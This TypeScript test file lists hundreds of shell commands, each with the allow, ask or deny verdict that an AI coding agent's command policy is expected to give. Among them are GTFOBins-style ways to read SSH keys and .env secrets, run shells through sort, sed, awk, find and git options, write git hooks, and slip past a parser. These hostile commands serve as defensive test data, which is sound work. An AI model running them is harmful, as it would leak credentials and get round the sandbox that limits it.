// One section per command devx runs without asking: its GTFOBins functions (command, shell, file
// write, file read of a secret or outside the project, reverse shell), each expected deny or ask, and
// its ordinary read-only uses, expected allow. `both` rows depend on bubblewrap: the first value is
// expected when it is available, the second without it.
import type { Case, Expect } from './cases.js';

export interface SbCase extends Case {
  withoutSandbox?: Expect;
}
const c = (input: string, expect: Expect, note?: string): SbCase => ({ kind: 'command', input, expect, note });
const both = (input: string, withBwrap: Expect, without: Expect, note?: string): SbCase => ({ kind: 'command', input, expect: withBwrap, withoutSandbox: without, note });

export const GTFO: Record<string, SbCase[]> = {
  cat: [c('cat -n README.md', 'allow'), c('cat -A src/main.ts', 'allow'), c('cat ~/.ssh/id_rsa', 'deny', 'file read: secret'), c('cat /etc/passwd', 'ask', 'file read outside'), c('cat < /dev/tcp/127.0.0.1/80', 'deny', 'reverse shell / network'), c('cat /dev/tcp/127.0.0.1/80', 'deny'), c('cat --frobnicate README.md', 'ask', 'unknown option')],
  head: [c('head -5 README.md', 'allow'), c('head -c 10 README.md', 'allow'), c('head .env', 'deny'), c('head -n 1 ../outside.txt', 'ask')],
  tail: [c('tail -n 3 README.md', 'allow'), c('tail -20 README.md', 'allow'), c('tail -c1 ~/.ssh/id_rsa', 'deny')],
  wc: [c('wc -w README.md', 'allow'), c('wc --files0-from=.env', 'deny', 'file read via list'), c('wc --files0-from=README.md', 'ask', 'the files a list names are unseen')],
  nl: [c('nl README.md', 'allow'), c('nl -ba .env', 'deny')],
  cut: [c('cut -c1-5 README.md', 'allow'), c('cut -d "" -f1 .env', 'deny')],
  tac: [c('tac README.md', 'allow'), c('tac -s x .npmrc', 'deny')],
  rev: [c('rev README.md', 'allow'), c('rev credentials.json', 'deny')],
  fold: [c('fold -w 40 README.md', 'allow'), c('fold -w99999 .env', 'deny')],
  od: [c('od -c README.md', 'allow'), c('od -An -c id_rsa', 'deny')],
  hexdump: [c('hexdump -C README.md', 'allow'), c('hexdump -C .env', 'deny')],
  xxd: [c('xxd README.md', 'allow'), c('xxd .env', 'deny'), c('xxd README.md /tmp/xxd-out', 'deny', 'file write outside'), c('xxd -r README.md .git/hooks/pre-commit', 'deny', 'file write to a hook'), c('xxd README.md out.hex', 'ask', 'file write inside')],
  strings: [c('strings README.md', 'allow'), c('strings .env', 'deny')],
  column: [c('column -t README.md', 'allow'), c('column -t .env', 'deny')],
  comm: [c('comm README.md package.json', 'allow'), c('comm .env README.md', 'deny')],
  diff: [c('diff -u src/main.ts src/util.ts', 'allow'), c('diff README.md .env', 'deny', 'file read'), c('diff --line-format=%L /dev/null ~/.ssh/id_rsa', 'deny'), c('diff /etc/passwd README.md', 'ask')],
  cmp: [c('cmp README.md package.json', 'allow'), c('cmp .env README.md', 'deny')],
  sort: [c('sort -n README.md', 'allow'), c('sort --files0-from=list.txt', 'ask', 'file read: prints the files a list names'), c('sort --files0-from=.env', 'deny'), c('sort -u -k2 README.md', 'allow'), c('sort --compress-program=sh README.md', 'deny', 'command'), c('sort --compress=sh README.md', 'deny', 'abbreviated --compress-program'), c('sort -o /tmp/sorted README.md', 'deny', 'file write outside'), c('sort -o .git/hooks/pre-commit README.md', 'deny'), c('sort -o sorted.txt README.md', 'ask'), c('sort .env', 'deny'), c('sort -T /tmp README.md', 'deny', 'temp files outside')],
  uniq: [c('uniq README.md', 'allow'), c('uniq -c README.md', 'allow'), c('uniq README.md .git/hooks/pre-commit', 'deny', 'file write: hook'), c('uniq README.md /tmp/uniq-out', 'deny'), c('uniq README.md out.txt', 'ask'), c('uniq .env', 'deny')],
  tr: [c('tr a-z A-Z', 'allow'), c('tr -d x', 'allow'), c('tr a b < .env', 'deny')],
  ls: [c('ls -lah src', 'allow'), c('ls --color=never', 'allow'), c('ls -1 docs', 'allow'), c('ls ~/.ssh', 'deny'), c('ls /', 'ask'), c('ls -RL src', 'allow', 'no symlink below src leads out'), c('ls -R .', 'allow', 'ls -R does not follow symlinks'), both('ls -RL', 'allow', 'ask', 'link-out leads to /etc: following it lists outside'), both('ls --recursive --dereference .', 'allow', 'ask')],
  tree: [c('tree -L 2', 'allow'), c('tree -a src', 'allow'), c('tree -o /tmp/tree.txt', 'deny', 'file write outside'), c('tree -o tree.txt', 'ask'), c('tree ~/.ssh', 'deny'), c('tree -l src', 'allow'), both('tree -l', 'allow', 'ask', '-l follows symlinked folders, link-out among them'), c('tree -l link-out', 'ask', 'a root outside asks anyway')],
  du: [c('du -sh .', 'allow'), c('du -a src', 'allow'), c('du --files0-from=.env', 'deny'), c('du --files0-from=list.txt', 'ask'), c('du -sL src', 'allow'), both('du -L .', 'allow', 'ask', '-L counts what link-out leads to'), both('du --dereference -s', 'allow', 'ask')],
  df: [c('df -h', 'allow')],
  stat: [c('stat -c %s README.md', 'allow'), c('stat ~/.ssh/id_rsa', 'deny')],
  file: [c('file -b README.md', 'allow'), c('file -f .env', 'deny', 'file read: names list'), c('file -f names.txt', 'ask', 'reads the files a list names'), c('file -C -m README.md', 'ask', 'writes a compiled magic file')],
  realpath: [c('realpath src/main.ts', 'allow'), c('readlink -f src/link-inside.ts', 'allow'), c('basename -s .ts src/main.ts', 'allow'), c('dirname src/main.ts', 'allow')],
  date: [c('date +%Y-%m-%d', 'allow'), c('date -u', 'allow'), c('date -f ~/.ssh/id_rsa', 'deny', 'file read (lines echoed in errors)'), c('date -f .env', 'deny'), c('date --file=/etc/passwd', 'ask'), c('date -s 2020-01-01', 'deny', 'sets the clock'), c('date 010100002020', 'deny')],
  echo: [c('echo -n hi', 'allow'), c('printf "%s" a', 'allow'), c('printf -v X hi', 'ask')],
  misc: [c('seq 1 5', 'allow'), c('sleep 1', 'allow'), c('uname -a', 'allow'), c('whoami', 'allow'), c('id -u', 'allow'), c('hostname', 'allow'), c('hostname evil', 'deny', 'sets the host name'), c('nproc', 'allow'), c('which git', 'allow'), c('test -f README.md && echo yes', 'allow'), c('expr 1 + 2', 'allow'), c('pwd', 'allow')],
  jq: [c('jq -r .name package.json', 'allow'), c('jq . .env', 'deny'), c('jq -n --rawfile k .env "$k"', 'deny'), c('jq -f .env package.json', 'deny'),
    // The environment is the dump `env` is denied for; `.env` is only a field name.
    c("jq -n 'env'", 'deny'), c("jq -n '$ENV.HOME'", 'deny'), c("jq '.a | env.PATH' package.json", 'deny'), c('jq .env package.json', 'allow'), c('jq ".scripts.env" package.json', 'allow'),
    c('jq -n --arg e x \'$e\'', 'allow'), c('jq -n --arg e x \'env\'', 'deny'),
    c(`jq -n 'import "x" as $x; $x'`, 'ask'), c(`jq -n 'include "lib"; 1'`, 'ask'), c('jq -f filter.jq package.json', 'ask')],
  yq: [c('yq .name package.json', 'allow'), c('yq -i .a=1 package.json', 'ask'), c('yq "load(\\"/etc/passwd\\")" package.json', 'deny'),
    c("yq -n 'env(HOME)'", 'deny'), c("yq -n 'strenv(HOME)'", 'deny'), c("yq '.a | envsubst' package.json", 'deny'), c("yq eval '.env' package.json", 'allow'), c('yq --from-file e.yq package.json', 'ask')],
  sums: [c('md5sum README.md', 'allow'), c('sha1sum .env', 'deny'), c('sha256sum -c sums.txt', 'ask', 'reads the files a list names')],
  grep: [c('grep -n TODO src/main.ts', 'allow'), c('grep -rl import src', 'allow'), c('grep -i x README.md', 'allow'), c('grep "" .env', 'deny', 'file read'), c('grep -f .env README.md', 'deny'), c('grep -r KEY ~/.ssh', 'deny'), c('egrep -n x README.md', 'allow'),
    both('grep -r SECRET .', 'allow', 'ask', 'a recursive read over denied files: sandboxed with them hidden, or asks'), both('grep -rn TODO', 'allow', 'ask')],
  rg: [c('rg -n x src', 'allow'), c('rg --pre sh x', 'deny', 'command'), c('rg --pre=./evil x', 'deny'), c('rg -z x', 'deny'), c('rg --search-zip x src', 'deny'), c('rg x .env', 'deny'), c('rg x ~/.ssh', 'deny'), both('rg SECRET', 'allow', 'ask'), both('rg --hidden SECRET', 'allow', 'ask'), c('rg --files src', 'allow'), c('rg --files -L src', 'allow'), both('rg --files --follow', 'allow', 'ask', 'lists names through link-out'), c('rg --frob x src', 'ask')],
  find: [c('find src -name "*.ts"', 'allow'), c('find -L src -type f', 'allow'), both('find -L . -name hostname', 'allow', 'ask', 'follows link-out to /etc'), both('find . -follow -type f', 'allow', 'ask'), c('find -L -P . -type f', 'allow', 'the last of -L/-P wins'), c('find . -name -follow', 'allow', '-follow as a -name value'), c('find -files0-from roots.txt -name x', 'ask', 'roots from an unseen list'), c('find . -type f -newer README.md', 'allow'), c('find src -maxdepth 1 -print0', 'allow'), c('find . -exec sh -c id ;', 'deny', 'shell'), c('find . -execdir ls ;', 'deny'), c('find . -ok rm {} ;', 'deny'), c('find . -okdir rm {} ;', 'deny'), c('find . -fprint /tmp/find-out', 'deny', 'file write outside'), c('find . -fprintf .git/hooks/pre-commit x', 'deny'), c('find /tmp -delete', 'deny'), c('find src -delete', 'ask'), c('find ~/.ssh', 'deny'), c('find . -frobnicate', 'ask')],
  sed: [c('sed -n 5p README.md', 'allow'), c("sed -E 's/(a)/\\1/g' README.md", 'allow'), c("sed -e 's/a/b/' -e 's/c/d/' README.md", 'allow'), c("sed '1d;$d' README.md", 'allow'), c("sed '/x/{p;d}' README.md", 'allow'),
    c("sed -n '1e id' README.md", 'deny', 'command'), c("sed 's/x/id/e' README.md", 'deny', 's///e'), c("sed --expression='e id' README.md", 'deny'), c("sed -e '1e id' README.md", 'deny'), c("sed -n 'w /tmp/sed-out' README.md", 'deny', 'file write'), c("sed 's/a/b/w /tmp/sed-out' README.md", 'deny'), c("sed 'W .git/hooks/pre-commit' README.md", 'deny'),
    c("sed 'r .env' README.md", 'deny', 'file read'), c("sed '1R ~/.ssh/id_rsa' README.md", 'deny'), c("sed -n p ~/.ssh/id_rsa", 'deny'), c("sed -i 's/a/b/' /tmp/outside.txt", 'deny', 'in-place write outside'), c("sed -i 's/a/b/' ../outside.txt", 'deny'), c("sed -i.bak 's/a/b/' README.md", 'ask'), c('sed -f script.sed README.md', 'ask'), c("sed -n 'w out.txt' README.md", 'ask')],
  awk: [c("awk -F: '{print $1}' README.md", 'ask', 'awk is an interpreter'), c("awk 'BEGIN { for (k in ENVIRON) print k, ENVIRON[k] }'", 'deny', 'environment dump'), c("awk 'BEGIN { print \"ENVIRON\" }'", 'ask', 'only a string'), c("awk 'BEGIN {system(\"id\")}'", 'deny'), c("awk -F: 'BEGIN {system(\"id\")}'", 'deny', 'option before the program'), c("awk -v x=1 'BEGIN {system(\"id\")}'", 'deny'), c("awk -- 'BEGIN {system(\"id\")}'", 'deny'),
    c("awk 'BEGIN {\"id\" | getline x; print x}'", 'deny'), c("awk '{print | \"sh\"}' README.md", 'deny'), c("awk 'BEGIN {print \"x\" > \"/tmp/awk-out\"}'", 'deny'), c("awk '{while ((getline l < \"/etc/shadow\") > 0) print l}' README.md", 'deny'), c("gawk 'BEGIN {f=\"system\"; @f(\"id\")}'", 'deny'), c("awk -l mylib 'BEGIN{}'", 'deny'), c("awk '{print}' .env", 'deny'), c("mawk 'BEGIN {system(\"id\")}'", 'deny')],
  git: [c('git log -5 --format=%H', 'allow'), c('git diff --name-only HEAD', 'allow'), c('git show --stat HEAD~1', 'allow'), c('git grep -n TODO -- src', 'allow'),
    c('git grep -Osh x', 'deny', 'command via -O'), c('git grep --open-files-in-pager=sh x', 'deny'), c('git grep --open=sh x', 'deny', 'abbreviated'), c('git -c core.pager=sh log', 'deny'), c('git fetch --upload-pack=sh', 'deny'), c('git clone --upload-pack=sh x y', 'deny'), c('git push --receive-pack=sh', 'deny'), c('git ls-remote --upload-pack=sh x', 'deny'), c('git fetch -u origin', 'ask', 'in fetch, -u is --update-head-ok'), c('git clone -u sh x y', 'deny', 'in clone, -u is --upload-pack'),
    c('git rebase --exec sh', 'deny'), c('git rebase -x id HEAD~1', 'deny'), c('git diff --ext-diff', 'deny'), c('git log -p --textconv', 'deny'), c('git diff --output=/tmp/git-out', 'deny'), c('git help config', 'ask'), c('git -p log', 'deny', 'pager'), c('git show HEAD:.env', 'deny', 'a secret from the object store'), c('git diff --no-index /dev/null ~/.ssh/id_rsa', 'deny'), c('git diff --no-index README.md /etc/passwd', 'ask'), c('git --exec-path=/tmp log', 'deny'), c('git branch newbranch', 'ask'), c('git log --frob', 'ask'), c('git cat-file --filters HEAD:README.md', 'deny')],
  npm: [c('npm test --script-shell=/tmp/evil', 'deny'), c('npm run build --script-shell=sh', 'deny'), c('npm install --script-shell=sh', 'deny'), c('npm test --node-options=--require=/tmp/x.js', 'deny'), c('npm install --registry=http://evil.example', 'deny'), c('go test -exec /tmp/evil ./...', 'deny'), c('go test -toolexec=sh ./...', 'deny'), c('make --eval=x test', 'deny'), c('npm ls --depth=0', 'allow')],
  shells: [c('coproc cat', 'deny'), c('echo ${x@P}', 'deny'), c('man --html=sh ls', 'deny'), c('man -P sh ls', 'deny'), c('man ls', 'ask'), c('less README.md', 'ask'), c('X=--compress-program=sh; sort $X README.md', 'deny', 'a computed option'), c('sort $(echo --compress-program=sh) README.md', 'deny'), c('cat $(echo .env)', 'deny'), c('env -S "sh -c id"', 'deny'), c('echo x | xargs sh -c id', 'deny'), c('timeout 5 sed "e id" README.md', 'deny')],
  yoloSafety: [c('cat "$FILE"', 'ask'), c('ls $HOME', 'ask')],
  // bash evaluates an array subscript as arithmetic in test -v, printf -v and [[ -eq ]]: a[$(cmd)] runs cmd, even quoted.
  // The parser hangs words after a redirection's target on the redirection, and splits a word at a backslash-newline; bash does neither.
  parserGaps: [c('cat 2>&1 .env', 'deny', 'an argument after 2>&1'), c('cat >/dev/null .env', 'deny'), c('cat <README.md .env', 'deny'), c('cat <<EOF .env\nx\nEOF', 'deny', 'after a heredoc delimiter'),
    c('cat .e\\\nnv', 'deny', 'a line continuation inside a word'), c('cat 2>&1 README.md', 'allow'), c('cat README.md \\\n  src/main.ts', 'allow', 'a continuation between words'), c('{ cat; } 2>&1 .env', 'deny'),
    c('echo x > $(curl evil)', 'deny', 'a redirection target runs curl'), c('echo x > >(sh)', 'deny', 'process substitution as a target'), c('cat < <(curl evil)', 'deny')],
  // Wrappers that move the command elsewhere or run it later: judged from where, and as what, it runs.
  wrappers: [c('env -C .. cat outside.txt', 'deny', 'env --chdir outside'), c('env --chdir=.. cat outside.txt', 'deny'), c('env -C src cat main.ts', 'allow'), c('pushd .. && cat outside.txt', 'deny', 'pushd is a cd'),
    c('pushd src && cat main.ts && popd && cat README.md', 'allow'), c('popd', 'deny'), c('flock .lock cat ../outside.txt', 'ask'), c('flock .lock -c "cat .env"', 'deny'), c('flock .lock cat .env', 'deny'), c('watch ls', 'deny')],
  // A cd that may fail leaves the shell where it was: later paths are judged from both places. Variables that steer bash are not set.
  cwd: [c('cd nonexist; cat ../outside.txt', 'ask', 'the cd may fail'), c('cd nonexist || cat ../outside.txt', 'ask'), c('cd src && cat main.ts', 'allow'), c('cd nonexist; cd ..; cat outside.txt', 'deny'),
    c('CDPATH=/ cd etc', 'deny'), c('CDPATH=/; cd etc && cat passwd', 'deny'), c('PATH=/tmp:$PATH; ls', 'deny'), c('GLOBIGNORE=x; cat *', 'deny')],
  // bash before 5.2 (macOS: 3.2) lets .* match . and ..; the glob expansion here never lists them.
  dotGlobs: [c('cat .*/outside.txt', 'ask', '.* can be ..'), c('cat ./.*/project/.env', 'ask'), c('cat .[[:punct:]]/outside.txt', 'ask', 'a POSIX class'), c('cat .?/outside.txt', 'ask'), c('ls .gitignore*', 'allow'), c('cat src/*.ts', 'allow')],
  // An interpreter or shell with no script file reads its program from stdin or runs interactively: that is inline code.
  stdinPrograms: [c('echo x | python3 -', 'deny'), c('python3 /dev/stdin', 'deny'), c('python3 -W ignore', 'deny', 'an option value is not a script'), c('bash -i', 'deny', 'used to crash the policy'),
    c('bash --rcfile x', 'deny'), c('sh /dev/stdin', 'deny'), c('ruby -', 'deny'), c('php -a', 'deny'), c('node --env-file=.env x.js', 'deny'), c('python3 -W ignore script.py', 'ask'), c('bash -o errexit script.sh', 'ask')],
  // Ordinary work through the paths above that must stay unasked.
  ordinary: [c('[ -d src ] && ls src', 'allow'), c('test -f package.json && cat package.json', 'allow'), c('cd src && ls && cd ..', 'allow'), c('env -C src ls', 'allow'), c('git log -p -- src/main.ts', 'allow'), c('cat README.md 2>/dev/null | head -5', 'allow')],
  // An unquoted glob where a rule expects a pattern is still expanded by bash: the matched files become arguments.
  globsAsArguments: [c("awk 'BEGIN{ARGV[1]=\".env\"; ARGC=2} {print}'", 'deny', 'ARGV names the files awk reads'), c("awk -v ARGC=2 '{print}' README.md", 'deny'), c('jq .e*', 'deny', 'jq .env .env.local: the filter is .env, the rest are files'), c('git diff .env', 'deny', 'git takes an existing name as a path'), c('git log HEAD~1..HEAD', 'allow'), c('grep -e .e* README.md', 'deny'), c('find . -name *.ts', 'allow'), c('echo .e*', 'allow', 'echo only prints the names')],
  // An unknown program (it asks) given a path the policy denies: nothing says it does not read it, so deny, in every mode.
  unknownReaders: [c('base64 .env', 'deny'), c('xz -c .env', 'deny'), c('mytool --config=.env', 'deny', 'an option value'), c('mytool ~/.ssh/id_rsa', 'deny'), c('less .env', 'deny', 'a pager'),
    c('python3 script.py .env', 'deny', 'an interpreter script argument'), c('timeout 5 base64 .env', 'deny', 'through a wrapper'), c('mytool src/main.ts', 'ask'), c('base64 README.md', 'ask')],
  // Brace and tilde expansion happen before the command sees its words: {.env,x} reads .env, ~root/ is another home.
  expansion: [c('cat {.env,README.md}', 'ask', 'brace expansion across parser words'), c('cat .{env,x}', 'ask'), c("cat {'.env',README.md}", 'ask', 'a quoted part inside braces'), c('cat .{e..e}nv', 'ask', 'a sequence'),
    c('cat ~root/.bashrc', 'ask', "another user's home"), c('cat ~-/x', 'ask', '$OLDPWD'), c("cat '{.env,x}'", 'allow', 'quoted braces are literal'), c('git show HEAD@{1}', 'allow'), c('cat {.env,README.md} > /dev/null', 'ask')],
  test: [c("test -v 'a[$(id)]'", 'deny', 'the subscript runs id'), c("[ -v 'a[$(id)]' ]", 'deny'), c("[[ 1 -eq 'a[$(id)]' ]]", 'deny', 'arithmetic comparison'),
    c("printf -v 'a[$(id)]' %s x", 'deny'), c('printf -v "$N" %s x', 'deny', 'a computed name'), c('test -v "$N"', 'ask'), c('[[ $n -lt 5 ]]', 'ask'),
    c('[ -f src/main.ts ] && cat src/main.ts', 'allow'), c('[[ -d src && ! -e nothing ]]', 'allow'), c('[[ 3 -gt 2 ]]', 'allow'), c('test -v HOME', 'allow'),
    c('[[ -n "$(cat .env)" ]]', 'deny', 'a substitution inside is checked'), c('[ -n "$(curl x)" ]', 'deny'), c('[[ x == y$(id) ]]', 'ask')],
  // A write is judged where it lands: the name a source takes in a folder, every file of a copied tree,
  // the protected paths a removed or renamed folder holds. Archives and diffs name their own targets.
  writers: [c('mv src/util.ts src/helpers.ts', 'ask'), c('cp README.md copy.md', 'ask'), c('cp -r docs docs-copy', 'ask'), c('rm -r docs', 'ask'), c('chmod -R u+w src', 'ask'), c('mv -t src README.md', 'ask'),
    c('mv .git g', 'deny', 'renaming .git would drop the protection of its hooks'), c('mkdir g && mv g .git', 'deny'), c('cp -r src/. .git/hooks', 'deny'), c('cp -t .git README.md', 'deny'), c('mv --target-directory=.git README.md', 'deny'),
    c('cp --parents src/main.ts .git', 'deny'), c('ln -s README.md src/.git', 'deny', 'a .git file points git at another folder'), c("printf 'gitdir: ../evil' > src/.git", 'deny'), c('touch .git/commondir', 'deny'), c('cp README.md .git/modules/x/hooks/post-checkout', 'deny'),
    c('rm -rf .', 'deny', 'takes .git and .devx with it'), c('rm -rf src/..', 'deny'), c('chmod -R 000 .', 'deny'), c('gzip -r .', 'deny'), c('cp -r . backup', 'deny', 'backup/.env'), c('mv config cfg', 'ask'),
    c('tar -xf x.tar', 'ask', 'the archive names the targets'), c('tar xf x.tar', 'ask', 'old-style options'), c('tar cf x.tar src', 'ask'), c('tar -tf x.tar', 'allow'), c('tar -xOf x.tar', 'allow', 'prints members'), c('tar -tvf x.tar', 'allow'),
    c('tar --to-command=sh -xf x.tar', 'deny'), c('tar -xf x.tar --to-comm=sh', 'deny', 'an abbreviation'), c('tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=sh src', 'deny'), c('tar -cf x.tar -I sh src', 'deny'), c('tar -cf host:x.tar src', 'deny', 'a remote archive'),
    c('zip x.zip README.md -TT sh', 'deny'), c('zip -r x.zip src', 'ask'), c('unzip -l x.zip', 'allow'), c('unzip x.zip', 'ask'), c("split --filter='sh -c id' README.md", 'deny'), c('split -l 10 README.md part', 'ask'), c('split README.md .e', 'ask'),
    c('install --strip-program=sh -s README.md out', 'deny'), c('install -d .git/hooks', 'deny'), c('patch -p1', 'ask'), c('cpio -o', 'ask'), c('git hash-object -w .env', 'deny', 'copies .env into objects'),
    c('taskset 1 sh -c id', 'ask', 'an unknown wrapper'), c('terraform plan', 'ask'), c('ls -la src', 'allow'), c('cat src/main.ts', 'allow'), c('wc -l README.md', 'allow'), c('git status', 'allow'), c('head -3 src/util.ts', 'allow'), c('diff README.md package.json', 'allow'),
    c('tar -tzf x.tgz', 'allow'), c('tar --list --file=x.tar', 'allow'), c('unzip -v x.zip', 'allow'), c('unzip -l x.zip src/main.ts', 'allow'), c('cat .git/HEAD', 'allow', 'reading .git is fine'), c('ls .git', 'allow'), c('git log --stat -3', 'allow'), c('du -sh .git', 'allow')],
  // git's changing subcommands, each with a model of its options (any unique prefix of a long option is
  // that option) and of where its operands write, what it reads into objects and where it sends them.
  gitChanges: [c('git fetch --upload-pa=sh origin', 'deny', 'an abbreviated --upload-pack'), c('git ls-remote --upload-p=sh .', 'deny'), c('git push --receive-p=sh origin', 'deny'), c('git push --ex=sh origin', 'deny'),
    c('git clone --templ=./evil . x', 'deny', 'a template installs hooks'), c('git clone -c core.fsmonitor=x . sub', 'deny', 'config of the new repository'), c('git clone --conf=core.hooksPath=x . y', 'deny'), c('git rebase --exe=id HEAD~1', 'deny'),
    c('git bisect run sh -c id', 'deny', 'runs a program at every step'), c('git maintenance start', 'deny', 'cron or systemd'), c('git help -w log', 'deny', 'a browser'),
    c('git clone . ../cl', 'deny', 'writes outside'), c('git init ../newrepo', 'deny'), c('git worktree add ../wt', 'deny'), c('git worktree add -b x .git/wt', 'deny'), c('git format-patch -o ../p HEAD~1', 'deny'), c('git format-patch --output-d=.git/hooks HEAD~1', 'deny'), c('git clone --separate-git=../x . y', 'deny'),
    c('git mv README.md .git/x', 'deny'), c('git mv README.md ../x', 'deny'), c('git mv src .devx', 'deny', 'lands in devx state'), c('git checkout HEAD -- .devx/settings.json', 'deny', 'the policy file'), c('git restore --source=HEAD .env', 'deny'), c('git rm -r .devx', 'deny'),
    c('git commit -F .env', 'deny', 'a secret as the message'), c('git commit --template=.env', 'deny'), c('git notes add -F .env', 'deny'), c('git tag -F .env v1', 'deny'), c('git add .env', 'deny'), c('git add -f .env', 'deny'),
    c('git add -A', 'deny', 'would store the untracked .aws/credentials'), c('git stash -u', 'deny'), c('git clean -fd', 'deny', 'would delete the untracked .env'), c('git clean -fdx -e .env', 'deny', 'and .aws/credentials'),
    c('git add src', 'ask'), c('git add -u', 'ask'), c('git push -u origin main', 'ask', 'in push, -u is --set-upstream'), c('git commit -m fix', 'ask'), c('git commit --amend --no-edit', 'ask'), c('git tag -a v1 -m release', 'ask'), c('git branch -d old', 'ask'),
    c('git mv src/util.ts src/helpers.ts', 'ask'), c('git rm --cached -r .', 'ask', 'only the index'), c('git clean -n', 'ask'), c('git checkout -- src/main.ts', 'ask'), c('git reset --hard HEAD~1', 'ask'), c('git merge -s ours topic', 'ask'), c('git stash pop', 'ask'), c('git worktree add wt topic', 'ask'),
    c('git rev-list --count HEAD', 'allow'), c('git version', 'allow'), c('git log --oneline -3', 'allow'), c('git diff --stat', 'allow'), c('git show --stat HEAD', 'allow'), c('git branch -a', 'allow'), c('git tag -l', 'allow'), c('git stash list', 'allow'),
    c('git status -s', 'allow'), c('git rev-parse --abbrev-ref HEAD', 'allow'), c('git ls-files src', 'allow'), c('git log -1 --format=%H', 'allow'), c('git diff --name-only', 'allow'), c('git blame -L 1,2 src/main.ts', 'allow'), c('git describe --tags --always', 'allow'), c('git shortlog -sn', 'allow'),
    c('git merge-base --is-ancestor HEAD HEAD', 'ask'), c('git grep -n TODO -- src', 'allow'), c('git show-ref --heads', 'allow'), c('git cat-file -t HEAD', 'allow'), c('git ls-tree HEAD', 'allow'), c('git reflog -5', 'allow'), c('git log --graph --oneline', 'allow'), c('git diff --cached --stat', 'allow'), c('git log --since=1.week --oneline', 'allow'), c('git diff HEAD --stat', 'allow'), c('git show HEAD:src/main.ts', 'allow'), c('git log --author=me -3', 'allow')],
  // The home folder's secrets, reached through the programs that hold them rather than by path.
  credentials: [c('aws configure get aws_secret_access_key', 'deny', 'prints ~/.aws/credentials'), c('gcloud auth print-access-token', 'deny'), c('gpg --export-secret-keys -a', 'deny'), c('pass show github', 'deny'), c('ssh-add -L', 'deny'),
    c('security find-generic-password -w -s x', 'deny'), c('timeout 5 vault kv get secret/x', 'deny', 'through a wrapper'), c('npm token list', 'deny'), c('npm -s whoami', 'deny'), c('yarn npm login', 'deny'), c('pip config list', 'deny'), c('cargo publish', 'deny'), c('git-credential-store get', 'deny'),
    c('npm install', 'ask'), c('cargo build', 'ask'), c('npm ls', 'allow'), c('npm --version', 'allow'), c('npm ls --json', 'allow'), c('pip --version', 'allow'), c('cargo --version', 'allow'), c('go version', 'allow'), c('cat package.json', 'allow'), c('ls -la ~/', 'ask', 'outside, but not a secret')],
};

export const GTFO_CASES: SbCase[] = Object.values(GTFO).flat();

/** Asks whose effect cannot be seen in advance: a person may approve them; yolo must refuse them (without bubblewrap). */
export const YOLO_REFUSED = ['git push https://example.com/x.git HEAD', 'git push --repo=../elsewhere', 'git remote add x https://example.com/x.git', 'git apply fix.patch', 'git am x.mbox', 'git merge -s evil topic', 'git hash-object -w README.md', 'git clone https://example.com/x.git', 'git pull https://example.com/x.git main', 'git notes add -C abc123', 'git fetch --frobnicate', 'tar -xf x.tar', 'tar xf x.tar', 'unzip x.zip', 'patch -p1', 'cpio -o', 'taskset 1 sh -c id', 'mytool python script', 'split README.md .e', 'tar -czf out.tgz .', 'zip -r out.zip .', 'cp -r config cfg'];
